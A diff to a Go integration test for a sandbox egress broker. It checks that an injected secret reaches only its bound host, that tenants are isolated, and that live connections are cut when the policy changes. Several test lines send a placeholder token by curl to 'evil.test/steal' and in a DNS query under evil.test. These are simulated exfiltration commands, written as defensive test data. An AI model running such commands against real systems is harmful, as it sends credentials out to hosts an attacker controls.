@@ -8,11 +8,14 @@ import (
 	"crypto/x509"
 	"crypto/x509/pkix"
 	"encoding/hex"
+	"encoding/json"
 	"encoding/pem"
 	"fmt"
+	"io"
 	"math/big"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"sync"
@@ -60,7 +63,11 @@ func (ca *testCA) leaf(t *testing.T, host string) tls.Certificate {
 // seen records what an upstream received.
 type seen struct {
 	mu   sync.Mutex
-	reqs []string // one line per request: "proto method path | headers"
+	reqs []string // one line per request: "proto method path | headers | body=..."
+	// started and ended, when set, hear of a /stream request's start and
+	// of its end (the error that ended it, nil if it ran its course).
+	started chan struct{}
+	ended   chan error
 }
 
 func (s *seen) add(r *http.Request) {
@@ -69,9 +76,37 @@ func (s *seen) add(r *http.Request) {
 	for k, vs := range r.Header {
 		fmt.Fprintf(&b, " %s=%s", k, strings.Join(vs, ","))
 	}
+	if body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<10)); len(body) > 0 {
+		fmt.Fprintf(&b, " | body=%s", body)
+	}
 	s.mu.Lock()
 	s.reqs = append(s.reqs, b.String())
 	s.mu.Unlock()
+}
+
+// stream answers a tick every 100ms for at most a minute, telling
+// s.started and s.ended.
+func (s *seen) stream(w http.ResponseWriter) {
+	if s.started != nil {
+		select {
+		case s.started <- struct{}{}:
+		default:
+		}
+	}
+	var err error
+	for range 600 {
+		if _, err = fmt.Fprintln(w, "tick"); err != nil {
+			break
+		}
+		w.(http.Flusher).Flush()
+		time.Sleep(100 * time.Millisecond)
+	}
+	if s.ended != nil {
+		select {
+		case s.ended <- err:
+		default:
+		}
+	}
 }
 
 func (s *seen) take() string {
@@ -91,6 +126,10 @@ func (n *testInternet) serveTLS(t *testing.T, addr, host string, ca *testCA, rec
 	l := n.listen(t, "tcp", addr)
 	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		rec.add(r)
+		if strings.HasPrefix(r.URL.Path, "/stream") {
+			rec.stream(w)
+			return
+		}
 		fmt.Fprintf(w, "upstream %s\n", host)
 	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}, NextProtos: []string{"h2", "http/1.1"}}}
 	go srv.ServeTLS(l, "", "")
@@ -98,10 +137,15 @@ func (n *testInternet) serveTLS(t *testing.T, addr, host string, ca *testCA, rec
 }
 
 // TestEgressBroker: a secret bound by a rule reaches the upstream in a
-// header and through its placeholder, and nowhere else; the sandbox never
-// holds it; other hosts pass through untouched; a tenant cannot bind
-// another's secret; injections are audited; a policy change cuts a live
-// connection to a newly denied host; a daemon restart keeps all of it.
+// header and through its placeholder (header, URL, body), and nowhere
+// else; curl (HTTP/1.1 and HTTP/2), Python's urllib and requests and
+// Node's fetch all go through the broker; the sandbox never holds the
+// secret (environment, files, /proc, DNS queries, a server it controls,
+// the broker's own answers); other hosts pass through untouched; a tenant
+// cannot bind another's secret, at create or at run time; injections are
+// audited; a policy change cuts live connections to a newly denied host,
+// an intercepted (TLS-terminated) one included; a daemon restart keeps
+// all of it, and the sandbox keeps working.
 func TestEgressBroker(t *testing.T) {
 	inet := newTestInternet(t, map[string]string{"api.test": "198.18.77.1", "evil.test": "198.18.77.3"})
 	ca := newTestCA(t)
@@ -109,7 +153,8 @@ func TestEgressBroker(t *testing.T) {
 	if err := os.WriteFile(caFile, ca.pem, 0o644); err != nil {
 		t.Fatal(err)
 	}
-	var api, evil seen
+	api := seen{started: make(chan struct{}, 1), ended: make(chan error, 1)}
+	var evil seen
 	inet.serveTLS(t, "198.18.77.1:443", "api.test", ca, &api)
 	inet.serveTLS(t, "198.18.77.3:443", "evil.test", ca, &evil)
 	// A slow stream on the second host, to be cut by a policy change.
@@ -166,59 +211,96 @@ func TestEgressBroker(t *testing.T) {
 		t.Fatalf("bob sees alice's secret: %d %s", status, data)
 	}
 
+	// Nor at run time, on a sandbox of his own.
+	bobs := createRaw(t, d, keyB, map[string]any{"network": map[string]any{"mode": "egress"}})
+	t.Cleanup(func() { d.call(t, "DELETE", "/v1/sandboxes/"+bobs, keyB, nil) })
+	if status, data = d.call(t, "PUT", "/v1/sandboxes/"+bobs+"/network", keyB, map[string]any{"mode": "egress", "rules": rules}); status != 400 {
+		t.Fatalf("bob bound alice's secret at run time: %d %s", status, data)
+	}
+
 	id := createRaw(t, d, keyA, map[string]any{"env": map[string]string{"TOKEN": placeholder},
 		"network": map[string]any{"mode": "egress", "rules": rules}})
 	// AUTO_CLEANUP is off (the restart below keeps the sandbox): remove it
 	// whatever happens.
 	t.Cleanup(func() { d.call(t, "DELETE", "/v1/sandboxes/"+id, keyA, nil) })
 
+	// The secret's two halves, joined by the shell's printf so that no
+	// process's command line holds it.
+	half := len(secret) / 2
+	pat := fmt.Sprintf(`printf '%%s%%s\n' '%s' '%s'`, secret[:half], secret[half:])
 	check := func(what string) {
 		t.Helper()
-		// curl, HTTP/1.1 and HTTP/2, header rule and placeholder.
-		out := execIn(t, d, keyA, id, `curl -sS --http1.1 -H "X-Token: $TOKEN" https://api.test/v1/h1?k=$TOKEN; curl -sS --http2 -w ' %{http_version}\n' https://api.test/v1/h2`)
+		// curl, HTTP/1.1 and HTTP/2, header rule and placeholder in a
+		// header, the URL and the body.
+		out := execIn(t, d, keyA, id, `curl -sS --http1.1 -H "X-Token: $TOKEN" https://api.test/v1/h1?k=$TOKEN; `+
+			`curl -sS --http2 -d "{\"key\":\"$TOKEN\"}" -w ' %{http_version}\n' https://api.test/v1/h2`)
 		if !strings.Contains(out, "upstream api.test") || !strings.HasSuffix(strings.TrimSpace(out), " 2") {
 			t.Fatalf("%s: curl through the broker: %q", what, out)
 		}
 		got := api.take()
-		if strings.Count(got, "Bearer "+secret) != 2 || !strings.Contains(got, "X-Token="+secret) || !strings.Contains(got, "k="+secret) {
+		if strings.Count(got, "Bearer "+secret) != 2 || !strings.Contains(got, "X-Token="+secret) || !strings.Contains(got, "k="+secret) ||
+			!strings.Contains(got, `HTTP/2.0 POST /v1/h2`) || !strings.Contains(got, `body={"key":"`+secret+`"}`) {
 			t.Fatalf("%s: upstream did not get the secret where the rules say:\n%s", what, got)
 		}
 		if strings.Contains(got, placeholder) {
 			t.Fatalf("%s: a placeholder reached the bound host:\n%s", what, got)
 		}
-		// Python's urllib and Node's fetch trust the broker through the
-		// CA variables.
+		// Python's urllib and requests, and Node's fetch, trust the broker
+		// through the CA variables; requests and fetch send the
+		// placeholder in a JSON body.
 		out = execIn(t, d, keyA, id, `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://api.test/py", timeout=10).read().decode())'`)
 		if !strings.Contains(out, "upstream api.test") {
 			t.Fatalf("%s: python urllib: %q", what, out)
 		}
-		out = execIn(t, d, keyA, id, `python3 -c 'import requests; print(requests.get("https://api.test/requests", timeout=10).text)' 2>&1 || true`)
-		if !strings.Contains(out, "upstream api.test") && !strings.Contains(out, "No module named") {
-			t.Fatalf("%s: python requests: %q", what, out)
-		}
-		out = execIn(t, d, keyA, id, `command -v node >/dev/null && node -e 'fetch("https://api.test/node").then(r=>r.text()).then(console.log, e=>console.log("ERR", e))' || echo "upstream api.test (no node)"`)
+		out = execIn(t, d, keyA, id, `python3 -c 'import os, requests; print(requests.post("https://api.test/requests", json={"key": os.environ["TOKEN"]}, timeout=10).text)' 2>&1`)
 		if !strings.Contains(out, "upstream api.test") {
-			t.Fatalf("%s: node fetch: %q", what, out)
+			t.Fatalf("%s: python requests (the template needs python3-requests): %q", what, out)
 		}
-		if got := api.take(); strings.Count(got, "Bearer "+secret) < 2 {
-			t.Fatalf("%s: python/node requests lacked the header:\n%s", what, got)
+		out = execIn(t, d, keyA, id, `node -e 'fetch("https://api.test/node", {method: "POST", body: JSON.stringify({key: process.env.TOKEN})}).then(r=>r.text()).then(console.log, e=>console.log("ERR", e))' 2>&1`)
+		if !strings.Contains(out, "upstream api.test") {
+			t.Fatalf("%s: node fetch (the template needs node): %q", what, out)
+		}
+		got = api.take()
+		if strings.Count(got, "Bearer "+secret) != 3 || strings.Count(got, `"key":"`+secret+`"`) != 1 || strings.Count(got, `"key": "`+secret+`"`) != 1 ||
+			!strings.Contains(got, "/requests") || !strings.Contains(got, "/node") {
+			t.Fatalf("%s: urllib/requests/fetch requests lacked the header or the body's secret:\n%s", what, got)
 		}
 		// Another host: passed through by SNI (the sandbox sees its real
-		// certificate, hence -k), the placeholder stays a placeholder.
-		out = execIn(t, d, keyA, id, `curl -sSk -H "X-Token: $TOKEN" https://evil.test/steal; curl -sS -H "X-Token: $TOKEN" http://198.18.77.3/plain`)
+		// certificate, hence -k), the placeholder stays a placeholder, in
+		// headers and bodies.
+		out = execIn(t, d, keyA, id, `curl -sSk -H "X-Token: $TOKEN" -d "k=$TOKEN" https://evil.test/steal; curl -sS -H "X-Token: $TOKEN" http://198.18.77.3/plain`)
 		if !strings.Contains(out, "upstream evil.test") || !strings.Contains(out, "hello from the test internet") {
 			t.Fatalf("%s: pass-through: %q", what, out)
 		}
 		got = evil.take()
-		if strings.Contains(got, secret) || !strings.Contains(got, "X-Token="+placeholder) || strings.Contains(got, "Authorization") {
+		if strings.Contains(got, secret) || !strings.Contains(got, "X-Token="+placeholder) || !strings.Contains(got, "body=k="+placeholder) ||
+			strings.Contains(got, "Authorization") {
 			t.Fatalf("%s: an unbound host got the secret or lost the placeholder:\n%s", what, got)
+		}
+		// The broker's own answers: a request on the intercepted
+		// connection for another host is refused (421), before any rule.
+		out = execIn(t, d, keyA, id, `curl -sS -i -H "Host: evil.test" -H "X-Token: $TOKEN" https://api.test/misdirected`)
+		if !strings.Contains(out, " 421") || strings.Contains(out, secret[:half]) || strings.Contains(out, secret[half:]) {
+			t.Fatalf("%s: a misdirected request: %q", what, out)
+		}
+		if got := api.take(); got != "" {
+			t.Fatalf("%s: a misdirected request reached the upstream:\n%s", what, got)
+		}
+		// DNS: the sandbox may put the placeholder in a query (the test
+		// internet's DNS server sees it), never the secret.
+		execIn(t, d, keyA, id, `getent hosts "$TOKEN.evil.test" >/dev/null; true`)
+		var sawPlaceholder bool
+		for _, q := range inet.queries() {
+			if strings.Contains(q, strings.ToLower(secret[:half])) || strings.Contains(q, strings.ToLower(secret[half:])) {
+				t.Fatalf("%s: the secret in a DNS query: %q", what, q)
+			}
+			sawPlaceholder = sawPlaceholder || strings.Contains(q, strings.ToLower(placeholder))
+		}
+		if !sawPlaceholder {
+			t.Fatalf("%s: the DNS server never saw the placeholder's query (so it sees nothing): %q", what, inet.queries())
 		}
 		// The secret is nowhere in the sandbox: environment, files,
 		// processes.
-		// The pattern comes in two halves joined by the shell's printf,
-		// so that no process's command line holds it.
-		half := len(secret) / 2
-		pat := fmt.Sprintf(`printf '%%s%%s\n' '%s' '%s'`, secret[:half], secret[half:])
 		out = execIn(t, d, keyA, id, pat+` | grep -rlsF -f - /etc /tmp /workspace /home /run /.agentbox /proc/[0-9]*/environ /proc/[0-9]*/cmdline; env | grep -cF "$(`+pat+`)"`)
 		if strings.TrimSpace(out) != "0" {
 			t.Fatalf("%s: the secret is inside the sandbox: %q", what, out)
@@ -232,28 +314,65 @@ func TestEgressBroker(t *testing.T) {
 		t.Fatalf("audit: %d %s", status, data)
 	}
 
-	// A live connection to a host the new policy denies is cut.
+	// Live connections to hosts the new policy denies are cut: one the
+	// broker never sees (plain HTTP to port 8080, forwarded by the
+	// kernel) and one it intercepts (TLS terminated, the rule's header
+	// injected).
 	execIn(t, d, keyA, id, `(curl -sN --max-time 60 http://198.18.77.3:8080/stream > /tmp/stream.log 2>&1; echo "exit $?" >> /tmp/stream.log) >/dev/null 2>&1 &`)
-	select {
-	case <-streaming:
-	case <-time.After(20 * time.Second):
-		t.Fatal("the stream never started")
+	execIn(t, d, keyA, id, `(curl -sN --max-time 60 https://api.test/stream > /tmp/tls-stream.log 2>&1; echo "exit $?" >> /tmp/tls-stream.log) >/dev/null 2>&1 &`)
+	for _, c := range []chan struct{}{streaming, api.started} {
+		select {
+		case <-c:
+		case <-time.After(20 * time.Second):
+			t.Fatal("a stream never started")
+		}
+	}
+	if got := api.take(); !strings.Contains(got, "/stream") || !strings.Contains(got, "Bearer "+secret) {
+		t.Fatalf("the intercepted stream:\n%s", got)
 	}
 	status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA,
-		map[string]any{"mode": "egress", "deny_out": []string{"198.18.77.3/32"}, "rules": rules})
+		map[string]any{"mode": "egress", "deny_out": []string{"198.18.77.3/32", "198.18.77.1/32"}, "rules": rules})
 	if status != 200 {
 		t.Fatalf("update policy: %d %s", status, data)
 	}
-	select {
-	case err := <-streamDone:
-		if err == nil {
-			t.Fatal("the stream to the denied host ran to its end")
+	for what, c := range map[string]chan error{"plain": streamDone, "intercepted": api.ended} {
+		select {
+		case err := <-c:
+			if err == nil {
+				t.Fatalf("the %s stream to the denied host ran to its end", what)
+			}
+		case <-time.After(30 * time.Second):
+			t.Fatalf("the %s connection to the newly denied host is still open", what)
 		}
-	case <-time.After(30 * time.Second):
-		t.Fatal("the connection to the newly denied host is still open")
+	}
+	// The sandbox's end saw the intercepted stream end early, not finish.
+	for i := 0; ; i++ {
+		out := execIn(t, d, keyA, id, `cat /tmp/tls-stream.log`)
+		if strings.Contains(out, "exit ") {
+			if strings.Contains(out, "exit 0") {
+				t.Fatalf("curl saw the cut stream end normally: %q", out)
+			}
+			break
+		}
+		if i == 100 {
+			t.Fatalf("curl of the cut stream never ended: %q", out)
+		}
+		time.Sleep(100 * time.Millisecond)
 	}
 	if out := execIn(t, d, keyA, id, `curl -sS -m 5 http://198.18.77.3/ 2>&1; echo " rc=$?"`); !strings.Contains(out, "rc=7") && !strings.Contains(out, "rc=56") {
 		t.Fatalf("a new connection to the denied host: %q", out)
+	}
+	// A new connection to the denied rule host: the broker refuses it
+	// (a reset), nothing reaches the upstream.
+	if out := execIn(t, d, keyA, id, `curl -sS -m 5 https://api.test/denied 2>&1; echo " rc=$?"`); strings.Contains(out, "upstream") || strings.Contains(out, " rc=0") {
+		t.Fatalf("a new connection to the denied rule host: %q", out)
+	}
+	if got := api.take(); got != "" {
+		t.Fatalf("a request to the denied host went out:\n%s", got)
+	}
+	status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA, map[string]any{"mode": "egress", "rules": rules})
+	if status != 200 {
+		t.Fatalf("policy back: %d %s", status, data)
 	}
 
 	// Rotation: the next request carries the new value.
@@ -273,9 +392,71 @@ func TestEgressBroker(t *testing.T) {
 		t.Fatalf("policy back: %d %s", status, data)
 	}
 
-	// A restart loses nothing: CA, key, secrets, rules.
+	// The CLI: a secret set from stdin, listed without its value, bound by
+	// a rule from a file with `agentbox network`, then removed.
+	bin, _ := binaries(t)
+	cliRun := func(stdin string, args ...string) string {
+		t.Helper()
+		cmd := exec.Command(bin, append([]string{"--url", d.url, "--api-key", keyA}, args...)...)
+		cmd.Stdin = strings.NewReader(stdin)
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("agentbox %v: %v\n%s", args, err, out)
+		}
+		return string(out)
+	}
+	cliValue := "cli-" + secret
+	if out := cliRun(cliValue+"\n", "secret", "set", "CLI_TOKEN"); !strings.Contains(out, "CLI_TOKEN\tversion 1\tplaceholder agentbox-secret-CLI_TOKEN-") {
+		t.Fatalf("agentbox secret set: %q", out)
+	}
+	if out := cliRun("", "secret", "ls"); !strings.Contains(out, "CLI_TOKEN") || !strings.Contains(out, "API_TOKEN") || strings.Contains(out, secret) {
+		t.Fatalf("agentbox secret ls: %q", out)
+	}
+	rulesFile := filepath.Join(t.TempDir(), "rules.json")
+	cliRules := append([]map[string]any{{"host": "api.test", "headers": map[string]string{"X-Cli": "${secret:CLI_TOKEN}"}}}, rules...)
+	if data, err := json.Marshal(cliRules); err != nil || os.WriteFile(rulesFile, data, 0o600) != nil {
+		t.Fatal(err)
+	}
+	if out := cliRun("", "network", id, "--rules", rulesFile); strings.TrimSpace(out) != id {
+		t.Fatalf("agentbox network: %q", out)
+	}
+	execIn(t, d, keyA, id, `curl -sS https://api.test/cli`)
+	if got := api.take(); !strings.Contains(got, "X-Cli="+cliValue) || !strings.Contains(got, "Bearer "+secret) {
+		t.Fatalf("after agentbox network:\n%s", got)
+	}
+	if status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA, map[string]any{"mode": "egress", "rules": rules}); status != 200 {
+		t.Fatalf("policy back: %d %s", status, data)
+	}
+	cliRun("", "secret", "rm", "CLI_TOKEN")
+	if out := cliRun("", "secret", "ls"); strings.Contains(out, "CLI_TOKEN") {
+		t.Fatalf("agentbox secret rm left it: %q", out)
+	}
+
+	// While the daemon is down the kernel still sends the sandbox's HTTPS
+	// to the broker's port, where nobody listens: refused, nothing goes
+	// out around the broker (-k: a direct connection would succeed).
+	down := true
+	t.Cleanup(func() { // the sandboxes' cleanups need the daemon
+		if down {
+			d.start()
+		}
+	})
 	d.stop()
+	nsPath := filepath.Join("/run/agentbox/netns", "abxb"+suffix, id)
+	out, err := exec.Command("nsenter", "--net="+nsPath, "curl", "-sSk", "-m", "5", "--resolve", "api.test:443:198.18.77.1",
+		"https://api.test/daemon-down").CombinedOutput()
+	if err == nil || strings.Contains(string(out), "upstream") {
+		t.Fatalf("HTTPS of a sandbox with rules while the daemon is down: %v %q", err, out)
+	}
+	if !strings.Contains(string(out), "(7)") && !strings.Contains(string(out), "(56)") && !strings.Contains(string(out), "(35)") {
+		t.Fatalf("HTTPS of a sandbox with rules while the daemon is down was not refused: %q", out)
+	}
+	if got := api.take(); got != "" {
+		t.Fatalf("a request went out while the daemon was down:\n%s", got)
+	}
+	// A restart loses nothing: CA, key, secrets, rules.
 	d.start()
+	down = false
 	check("after a restart")
 	if status, data = d.call(t, "DELETE", "/v1/sandboxes/"+id, keyA, nil); status != 204 && status != 200 {
 		t.Fatalf("delete: %d %s", status, data)
